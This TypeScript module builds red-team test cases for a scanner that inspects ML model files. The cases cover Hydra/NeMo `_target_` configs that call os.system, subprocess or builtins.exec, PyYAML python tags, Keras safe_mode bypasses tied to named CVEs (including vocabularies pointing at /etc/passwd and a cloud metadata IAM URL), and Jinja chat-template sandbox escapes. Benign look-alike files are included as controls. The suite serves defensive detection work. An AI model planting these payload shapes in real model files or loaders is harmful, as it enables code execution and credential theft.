/**
 * Red-team generators for detection wave 2 (issue #13): configs that make a loader import and call
 * code (Hydra / OmegaConf `_target_`, NeMo CVE-2025-23304), the Keras 3 safe_mode bypass shapes,
 * chat templates outside the fixed Hugging Face file names, and HDF5 attributes a byte search
 * misses. Each case says which rule must block it and what the finding must name, so a pass for
 * the wrong reason fails. Benign shapes come with them: none may be blocked.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
// The red-team suite's shared writers live one folder up; this folder is the wave-2 part of the suite.
// eslint-disable-next-line no-restricted-imports
import { buildTar, buildZip, gzip } from '../__testUtils__/helpers';

export interface AttackCase {
  name: string;
  /** Files of a model folder (path → content); scanned as a tree. */
  files: Record<string, Uint8Array | string>;
  rule: string;
  /** What the blocking finding's evidence.symbol must be, when it names one. */
  symbol?: string;
  /** A word the message must contain: the mechanism. */
  mentions?: string;
}

export interface BenignCase {
  name: string;
  files: Record<string, Uint8Array | string>;
}

const weights = new Uint8Array(256);

// ------------------------------------------------------------------ Hydra / OmegaConf

const nemoConfig = (inner: string) => `name: Conformer-CTC
target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE
nemo_version: 1.23.0
model:
  sample_rate: 16000
  preprocessor:
    _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
    normalize: per_feature
  encoder:
    _target_: nemo.collections.asr.modules.ConformerEncoder
    n_layers: 17
${inner}
  optim:
    name: adamw
    sched:
      _target_: torch.optim.lr_scheduler.CosineAnnealingLR
      T_max: 1000
`;

const nemoTar = (config: string, compressed = false) => {
  const tar = buildTar([
    { name: './model_weights.ckpt', data: weights },
    { name: './tokenizer.model', data: new Uint8Array(32) },
    { name: './model_config.yaml', data: config },
  ]);
  return compressed ? gzip(tar) : tar;
};

/** `(label, YAML fragment under model:, symbol that must be named)` */
const HYDRA_PAYLOADS: [string, string, string][] = [
  [
    'builtins.exec with _args_',
    '  decoder:\n    _target_: builtins.exec\n    _args_: ["import os; os.system(\'id\')"]',
    'builtins.exec',
  ],
  [
    'os.system',
    '  decoder:\n    _target_: os.system\n    _args_: [id]',
    'os.system',
  ],
  [
    'posix.system (C alias)',
    '  decoder:\n    _target_: posix.system\n    command: id',
    'posix.system',
  ],
  [
    'subprocess.Popen with _partial_',
    '  decoder:\n    _target_: subprocess.Popen\n    _partial_: true\n    args: [sh, -c, id]',
    'subprocess.Popen',
  ],
  [
    'subprocess.run nested in _args_',
    '  decoder:\n    _target_: nemo.collections.asr.modules.ConvASRDecoder\n    _args_:\n      - _target_: subprocess.run\n        args: [id]',
    'subprocess.run',
  ],
  ['flow mapping', '  decoder: {_target_: os.popen, cmd: id}', 'os.popen'],
  [
    'quoted key',
    '  decoder:\n    "_target_": \'os.system\'\n    command: id',
    'os.system',
  ],
  [
    'alias to the target string',
    '  cmd: &t os.system\n  decoder:\n    _target_: *t\n    command: id',
    'os.system',
  ],
  [
    'runpy trampoline',
    '  decoder:\n    _target_: runpy.run_path\n    path_name: /tmp/x.py',
    'runpy.run_path',
  ],
  [
    'hydra get_method locator',
    '  decoder:\n    _target_: hydra.utils.get_method\n    path: os.system',
    'hydra.utils.get_method',
  ],
  [
    'importlib.import_module',
    '  decoder:\n    _target_: importlib.import_module\n    name: evil',
    'importlib.import_module',
  ],
  [
    'NeMo import helper',
    '  decoder:\n    _target_: nemo.utils.model_utils.import_class_by_path\n    path: os.system',
    'nemo.utils.model_utils.import_class_by_path',
  ],
];

export function hydraAttacks(): AttackCase[] {
  const cases: AttackCase[] = [];
  for (const [label, fragment, symbol] of HYDRA_PAYLOADS) {
    const config = nemoConfig(fragment);
    cases.push(
      {
        name: `.nemo tar: ${label}`,
        files: { 'asr.nemo': nemoTar(config) },
        rule: 'MODEL-CONFIG-CALLABLE',
        symbol,
        mentions: '_target_',
      },
      {
        name: `.nemo tar.gz: ${label}`,
        files: { 'asr.nemo': nemoTar(config, true) },
        rule: 'MODEL-CONFIG-CALLABLE',
        symbol,
      },
      {
        name: `model_config.yaml beside weights: ${label}`,
        files: {
          'model/model_config.yaml': config,
          'model/model.ckpt': weights,
        },
        rule: 'MODEL-CONFIG-CALLABLE',
        symbol,
      },
    );
  }
  cases.push(
    {
      name: 'extension-less YAML recognised by content',
      files: {
        'model/hparams':
          'trainer:\n  plugins:\n    - _target_: os.system\n      command: id\n',
      },
      rule: 'MODEL-CONFIG-CALLABLE',
      symbol: 'os.system',
    },
    {
      name: 'JSON config beside weights',
      files: {
        'model/hparams.json': JSON.stringify({
          model: {
            head: { _target_: 'subprocess.check_output', args: ['id'] },
          },
        }),
        'model/w.safetensors': weights,
      },
      rule: 'MODEL-CONFIG-CALLABLE',
      symbol: 'subprocess.check_output',
    },
    {
      name: 'Hugging Face config.json with _target_',
      files: {
        'model/config.json': JSON.stringify({
          architectures: ['LlamaForCausalLM'],
          model_type: 'llama',
          quantization_config: {
            _target_: 'builtins.eval',
            _args_: ['__import__("os").system("id")'],
          },
        }),
      },
      rule: 'MODEL-CONFIG-CALLABLE',
      symbol: 'builtins.eval',
    },
    {
      name: 'unknown code is high, named',
      files: {
        'model/config.yaml': 'model:\n  _target_: evil_pkg.payload.Run\n',
      },
      rule: 'MODEL-CONFIG-CALLABLE',
      symbol: 'evil_pkg.payload.Run',
      mentions: 'outside the known model libraries',
    },
    {
      name: 'second YAML document',
      files: {
        'model/config.yaml':
          'model:\n  _target_: torch.nn.Linear\n---\nmodel:\n  _target_: os.system\n',
      },
      rule: 'MODEL-CONFIG-CALLABLE',
      symbol: 'os.system',
    },
    {
      name: 'duplicate key: benign first, payload second',
      files: {
        'model/config.yaml':
          'model:\n  _target_: torch.nn.Linear\n  _target_: os.system\n',
      },
      rule: 'MODEL-CONFIG-CALLABLE',
      symbol: 'os.system',
    },
    {
      name: 'PyYAML python tag',
      files: {
        'model/config.yaml': 'model: !!python/object/apply:os.system ["id"]\n',
      },
      rule: 'MODEL-CONFIG-CALLABLE',
      symbol: 'os.system',
      mentions: 'PyYAML',
    },
    {
      name: 'config inside a zip archive',
      files: {
        'bundle.zip': buildZip({
          entries: [
            {
              name: 'conf/model.yaml',
              data: 'm:\n  _target_: os.system\n',
              method: 'deflate',
            },
          ],
        }),
      },
      rule: 'MODEL-CONFIG-CALLABLE',
      symbol: 'os.system',
    },
    {
      name: 'from_pretrained with trust_remote_code',
      files: {
        'model/config.yaml':
          'model:\n  _target_: transformers.AutoModel.from_pretrained\n  pretrained_model_name_or_path: evil/repo\n  trust_remote_code: true\n',
      },
      rule: 'MODEL-CONFIG-CALLABLE',
      symbol: 'transformers.AutoModel.from_pretrained',
      mentions: 'trust_remote_code',
    },
  );
  return cases;
}

export function hydraBenign(): BenignCase[] {
  return [
    {
      name: 'NeMo .nemo with model classes only',
      files: {
        'asr.nemo': nemoTar(
          nemoConfig(
            '  decoder:\n    _target_: nemo.collections.asr.modules.ConvASRDecoder\n    num_classes: 128',
          ),
        ),
      },
    },
    {
      name: 'Lightning + Hydra training config',
      files: {
        'run/config.yaml': [
          'trainer:',
          '  _target_: pytorch_lightning.Trainer',
          '  max_epochs: 10',
          '  callbacks:',
          '    - _target_: pytorch_lightning.callbacks.ModelCheckpoint',
          '      monitor: val_loss',
          'model:',
          '  net:',
          '    _target_: torch.nn.Sequential',
          '  optimizer:',
          '    _target_: torch.optim.AdamW',
          '    _partial_: true',
          '    lr: 0.001',
          '  tokenizer:',
          '    _target_: transformers.AutoTokenizer.from_pretrained',
          '    pretrained_model_name_or_path: bert-base-uncased',
          'data:',
          '  loader: {_target_: torch.utils.data.DataLoader, batch_size: 32}',
          '  path: ${oc.env:DATA_DIR}/train',
          '',
        ].join('\n'),
      },
    },
    {
      name: 'HF config.json',
      files: {
        'm/config.json': JSON.stringify({
          architectures: ['BertModel'],
          model_type: 'bert',
          hidden_size: 768,
          target_modules: ['q_proj', 'v_proj'],
        }),
      },
    },
    {
      name: 'GitHub workflow YAML',
      files: {
        '.github/workflows/ci.yml':
          'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.sha }}"\n        target: build\n',
      },
    },
    {
      name: 'conda environment',
      files: {
        'environment.yml':
          'name: ml\ndependencies:\n  - python=3.11\n  - pytorch\n',
      },
    },
    {
      name: 'package.json',
      files: {
        'package.json': JSON.stringify({
          name: 'x',
          scripts: { build: 'tsc' },
          target: 'es2022',
        }),
      },
    },
    {
      name: 'docker-compose',
      files: {
        'docker-compose.yaml':
          'services:\n  web:\n    build:\n      context: .\n      target: production\n',
      },
    },
  ];
}

// ------------------------------------------------------------------ Keras safe_mode bypasses

const layer = (
  class_name: string,
  config: Record<string, unknown>,
  module = 'keras.layers',
) => ({
  module,
  class_name,
  config: { name: `${class_name.toLowerCase()}_1`, ...config },
  registered_name: null,
});
const functional = (...layers: object[]) => ({
  module: 'keras.src.models.functional',
  class_name: 'Functional',
  config: { name: 'm', layers },
  registered_name: 'Functional',
});
const kerasArchive = (config: object) =>
  buildZip({
    entries: [
      {
        name: 'metadata.json',
        data: JSON.stringify({ keras_version: '3.10.0' }),
      },
      { name: 'config.json', data: JSON.stringify(config), method: 'deflate' },
      { name: 'model.weights.h5', data: new Uint8Array(16) },
    ],
  });
const LAMBDA_CODE =
  '4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMMAAAAdABkAYMBAQB8AFMAKQJOWgJpZCkB2gRleGVjKQHaAXipAHIDAAAA+gA8bGFtYmRhPgEAAADzAAAAAA==';
const fn = (module: string, name: string) => ({
  module,
  class_name: 'function',
  config: name,
  registered_name: 'function',
});

const scannerFixture = (name: string) => {
  // Test-only: the h5py fixtures committed with the scanner's HDF5 reader, read from the source tree.
  const bytes = readFileSync(
    join(
      // eslint-disable-next-line no-restricted-syntax
      __dirname,
      '../../../../packages/scanner/src/formats/models/hdf5/__fixtures__',
      name,
    ),
  );
  return name.endsWith('.gz')
    ? new Uint8Array(gunzipSync(bytes))
    : new Uint8Array(bytes);
};

export function kerasAttacks(): AttackCase[] {
  return [
    {
      name: 'CVE-2024-3660 Lambda with marshalled code',
      files: {
        'm.keras': kerasArchive(
          functional(
            layer('Lambda', {
              function: {
                class_name: '__lambda__',
                config: { code: LAMBDA_CODE },
              },
            }),
          ),
        ),
      },
      rule: 'MODEL-KERAS-LAMBDA',
    },
    {
      name: 'CVE-2025-1550 arbitrary module in config.json',
      files: {
        'm.keras': kerasArchive(
          functional(
            layer('Dense', {
              units: 1,
              activation: fn('subprocess', 'getoutput'),
            }),
          ),
        ),
      },
      rule: 'MODEL-KERAS-UNSAFE-FUNCTION',
      symbol: 'subprocess.getoutput',
    },
    {
      name: 'CVE-2025-8747 keras.utils.get_file gadget',
      files: {
        'm.keras': kerasArchive(
          functional(
            layer('Dense', {
              units: 1,
              kernel_initializer: fn('keras.utils', 'get_file'),
            }),
          ),
        ),
      },
      rule: 'MODEL-KERAS-UNSAFE-FUNCTION',
      symbol: 'keras.utils.get_file',
    },
    {
      name: 'CVE-2025-9905 Lambda in a legacy .h5, stored mid-file',
      files: { 'model.h5': scannerFixture('mid_file_fixed_20mib.h5.gz') },
      rule: 'MODEL-KERAS-LAMBDA',
      mentions: 'CVE-2025-9905',
    },
    {
      name: 'CVE-2025-9906 enable_unsafe_deserialization',
      files: {
        'm.keras': kerasArchive(
          functional(
            layer('Dense', {
              units: 1,
              activation: fn('keras.config', 'enable_unsafe_deserialization'),
            }),
          ),
        ),
      },
      rule: 'MODEL-KERAS-UNSAFE-FUNCTION',
      symbol: 'keras.config.enable_unsafe_deserialization',
    },
    {
      name: 'CVE-2025-9906 load_model chain',
      files: {
        'm.keras': kerasArchive(
          functional(
            layer('Dense', {
              units: 1,
              bias_initializer: fn('keras.models', 'load_model'),
            }),
          ),
        ),
      },
      rule: 'MODEL-KERAS-UNSAFE-FUNCTION',
      symbol: 'keras.models.load_model',
    },
    {
      name: 'CVE-2025-49655 TorchModuleWrapper',
      files: {
        'm.keras': kerasArchive(
          functional(
            layer(
              'TorchModuleWrapper',
              { module: 'gASV...' },
              'keras.src.utils.torch_utils',
            ),
          ),
        ),
      },
      rule: 'MODEL-KERAS-UNSAFE-FUNCTION',
    },
    {
      name: 'CVE-2025-12058 StringLookup vocabulary = /etc/passwd',
      files: {
        'm.keras': kerasArchive(
          functional(layer('StringLookup', { vocabulary: '/etc/passwd' })),
        ),
      },
      rule: 'MODEL-KERAS-FILE-ACCESS',
      symbol: '/etc/passwd',
      mentions: 'CVE-2025-12058',
    },
    {
      name: 'CVE-2025-12058 IntegerLookup vocabulary on gs://',
      files: {
        'm.keras': kerasArchive(
          functional(
            layer('IntegerLookup', { vocabulary: 'gs://attacker/v.txt' }),
          ),
        ),
      },
      rule: 'MODEL-KERAS-FILE-ACCESS',
      symbol: 'gs://attacker/v.txt',
    },
    {
      name: 'CVE-2025-12058 TextVectorization vocabulary over https',
      files: {
        'm.keras': kerasArchive(
          functional(
            layer('TextVectorization', {
              vocabulary: 'https://169.254.169.254/latest/meta-data/iam',
            }),
          ),
        ),
      },
      rule: 'MODEL-KERAS-FILE-ACCESS',
    },
    {
      name: 'CVE-2025-12058 TextVectorization idf_weights on s3://',
      files: {
        'm.keras': kerasArchive(
          functional(
            layer('TextVectorization', {
              output_mode: 'tf_idf',
              idf_weights: 's3://b/idf',
            }),
          ),
        ),
      },
      rule: 'MODEL-KERAS-FILE-ACCESS',
    },
    {
      name: 'HDF5 model_config in dense attribute storage (>64 KiB)',
      files: { 'model.h5': scannerFixture('dense_attributes_latest.h5') },
      rule: 'MODEL-KERAS-LAMBDA',
    },
    {
      name: 'HDF5 model_config on a nested group behind dense links',
      files: { 'model.h5': scannerFixture('dense_links_latest.h5') },
      rule: 'MODEL-KERAS-LAMBDA',
    },
    {
      name: 'HDF5 whose structure cannot be walked',
      files: {
        'model.h5': (() => {
          const b = Buffer.from(scannerFixture('benign_keras2.h5'));
          b.writeBigUInt64LE(BigInt(b.length * 4), 64);
          return new Uint8Array(b);
        })(),
      },
      rule: 'MODEL-MALFORMED',
      mentions: 'could not be walked',
    },
  ];
}

export function kerasBenign(): BenignCase[] {
  return [
    {
      name: '.keras with inline lookup vocabularies',
      files: {
        'm.keras': kerasArchive(
          functional(
            layer('StringLookup', {
              vocabulary: ['a', 'b'],
              oov_token: '[UNK]',
            }),
            layer('TextVectorization', {
              vocabulary: null,
              split: 'whitespace',
            }),
            layer('Dense', { units: 4 }),
          ),
        ),
      },
    },
    {
      name: 'benign Keras 2 .h5 (h5py)',
      files: { 'model.h5': scannerFixture('benign_keras2.h5') },
    },
    {
      name: 'benign .h5 with libver latest',
      files: { 'model.h5': scannerFixture('benign_latest.h5') },
    },
    {
      name: 'Keras 3 weights-only .h5',
      files: { 'model.weights.h5': scannerFixture('weights_only.h5') },
    },
  ];
}

// ------------------------------------------------------------------ chat templates anywhere

const EVIL_TEMPLATES: [string, string][] = [
  [
    'dunder chain',
    '{% for m in messages %}{{ m.__class__.__mro__[1].__subclasses__() }}{% endfor %}',
  ],
  [
    'computed dunder',
    "{% set u = '_' %}{{ cycler[u+u+'init'+u+u].__globals__.os.popen('id').read() }}",
  ],
  [
    'attr filter with escapes',
    "{{ (messages|attr('\\x5f\\x5fclass\\x5f\\x5f')) }}",
  ],
];

export function templateAttacks(): AttackCase[] {
  const cases: AttackCase[] = [];
  for (const [label, template] of EVIL_TEMPLATES) {
    const placements: Record<string, Record<string, Uint8Array | string>> = {
      'custom YAML key': {
        'm/prompts.yaml': `prompts:\n  chat:\n    chat_template: ${JSON.stringify(
          template,
        )}\n`,
      },
      'nested JSON value': {
        'm/generation_config.json': JSON.stringify({
          serving: { prompt: template },
        }),
      },
      '.jinja file': { 'm/templates/chat.jinja': template },
      '.template file': { 'm/chat.template': template },
      'extension-less file': {
        'm/CHAT': `{# chat #}\n${template}\n{% if add_generation_prompt %}<|assistant|>{% endif %}`,
      },
      'template list in tokenizer_config.json': {
        'm/tokenizer_config.json': JSON.stringify({
          chat_template: [
            { name: 'default', template: 'hi' },
            { name: 'tool_use', template },
          ],
        }),
      },
      'processor_config.json nested key': {
        'm/processor_config.json': JSON.stringify({
          processor_class: 'X',
          extra: { chat_template: template },
        }),
      },
    };
    for (const [where, files] of Object.entries(placements))
      cases.push({
        name: `${label} in ${where}`,
        files,
        rule: 'MODEL-CHAT-TEMPLATE-INJECTION',
      });
  }
  return cases;
}

const BENIGN_TEMPLATE =
  "{{ bos_token }}{% for message in messages %}{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] | trim + ' [/INST]' }}{% elif message['role'] == 'assistant' %}{{ message['content'] | trim + eos_token }}{% endif %}{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>' }}{% endif %}";

export function templateBenign(): BenignCase[] {
  return [
    {
      name: 'benign template in YAML',
      files: {
        'm/prompts.yaml': `chat_template: ${JSON.stringify(BENIGN_TEMPLATE)}\n`,
      },
    },
    {
      name: 'benign .jinja',
      files: { 'm/chat_template.jinja': BENIGN_TEMPLATE },
    },
    {
      name: 'benign extension-less template',
      files: { 'm/CHAT': BENIGN_TEMPLATE },
    },
    {
      name: 'tokenizer_config.json with namespace() and tojson',
      files: {
        'm/tokenizer_config.json': JSON.stringify({
          chat_template:
            '{% set ns = namespace(found=false) %}{% for m in messages %}{{ m | tojson }}{% endfor %}',
        }),
      },
    },
    {
      name: 'Python source with Jinja in a string',
      files: {
        'app/render.py':
          'import jinja2\n\nTEMPLATE = "{% for message in messages %}{{ message.content }}{% endfor %}"\n\nclass Renderer:\n    def __init__(self):\n        self.t = jinja2.Template(TEMPLATE)\n',
      },
    },
  ];
}
